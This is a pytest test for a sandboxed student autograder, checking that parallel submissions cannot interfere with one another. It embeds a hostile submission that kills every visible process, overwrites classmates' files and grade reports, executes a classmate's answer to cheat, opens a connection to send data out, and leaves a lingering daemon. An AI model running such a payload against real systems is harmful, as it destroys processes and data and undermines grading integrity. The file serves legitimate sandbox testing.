"""`grade batch` with students against students: graded at the same time (--jobs 3), nobody can read, kill,
change or outlive another, reach the network, or touch the class folder or the reports."""
from __future__ import annotations

import csv
import hashlib
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from conftest import ROOT
from grader.core import Options
from grader.sandbox.bwrap import find_bwrap

# The attack below kills every process it can see: it must never run outside the sandbox, so the batch runs
# with --sandbox required (which refuses to grade without bubblewrap) and the test needs both.
pytestmark = pytest.mark.skipif(find_bwrap() is None or "sandbox" not in Options.__dataclass_fields__,
                                reason="needs bubblewrap and the sandboxed runner")
MARKER = "rnn-grader-batch-daemon-5e2b"
SLOW = "import time as _t\n_t.sleep(4)  # still importing while the attacker runs\n"
# Appended to the stub: for 5 s, kill every other process it can see, overwrite classmates' files and the
# reports, copy a classmate's answer, phone home, and leave a daemon behind.
ATTACK = '''
import os as _os, signal as _signal, socket as _socket, subprocess as _sp, sys as _sys, time as _time
_sp.Popen([_sys.executable, "-c", "import time; time.sleep(300)  # {marker}"], start_new_session=True,
          stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"answers")
except OSError:
    pass
try:
    exec(open({alice!r}).read())  # a classmate's full-marks answer, by absolute path
except OSError:
    pass
_sandboxed = _socket.gethostname() == "sandbox"  # never kill anything outside the sandbox (see the test)
_end = _time.monotonic() + 5
while _time.monotonic() < _end:
    for _pid in _os.listdir("/proc"):
        if _pid.isdigit() and int(_pid) not in (_os.getpid(), 1) and _sandboxed:
            try:
                _os.kill(int(_pid), _signal.SIGKILL)
            except OSError:
                pass
    for _path in {targets!r}:
        try:
            with open(_path, "w") as _fh:
                _fh.write("forged")
        except OSError:
            pass
    _time.sleep(0.1)
'''


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _left(marker: str) -> list[str]:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if marker.encode() in path.read_bytes():
                found.append(path.parent.name)
        except OSError:
            pass
    return found


def test_students_graded_together_cannot_reach_each_other(tmp_path: Path):
    klass, out = tmp_path / "class", tmp_path / "out"
    klass.mkdir()
    reference = (ROOT / "solutions/exercise_03_rnn_cell.py").read_text()
    (klass / "alice.py").write_text(reference + "\n" + SLOW)
    (klass / "bob.py").write_text(reference + "\n" + SLOW)
    server = socket.create_server(("127.0.0.1", 0))
    connections: list[str] = []
    threading.Thread(target=lambda: [connections.append("x") for _ in iter(server.accept, None)], daemon=True).start()
    targets = [str(klass / "alice.py"), str(klass / "bob.py"), str(out / "grades.csv"), str(out / "alice.json"),
               str(tmp_path / "planted.txt")]
    attack = ATTACK.format(marker=MARKER, port=server.getsockname()[1], alice=str(klass / "alice.py"), targets=targets)
    (klass / "mallory.py").write_text((ROOT / "exercises/exercise_03_rnn_cell.py").read_text() + attack)
    before = _digest(klass)
    try:
        proc = subprocess.run([sys.executable, "-m", "grader.cli", "batch", "exercise-03", str(klass), "--out", str(out),
                               "--jobs", "3", "--sandbox", "required"], capture_output=True, text=True, cwd=ROOT, timeout=300)
    finally:
        server.close()
    assert proc.returncode == 0, proc.stderr[-3000:]
    rows = {r["student"]: r for r in csv.DictReader((out / "grades.csv").open())}
    assert float(rows["alice"]["score"]) == 18 and float(rows["bob"]["score"]) == 18, rows  # nobody was killed
    assert float(rows["mallory"]["score"]) == 0  # the copied answer was out of reach
    assert _digest(klass) == before and not (tmp_path / "planted.txt").exists()
    assert "forged" not in (out / "grades.csv").read_text() + (out / "alice.json").read_text()
    assert connections == [] and _left(MARKER) == [], "a connection got out, or a daemon outlived the batch"
    shutil.rmtree(out)
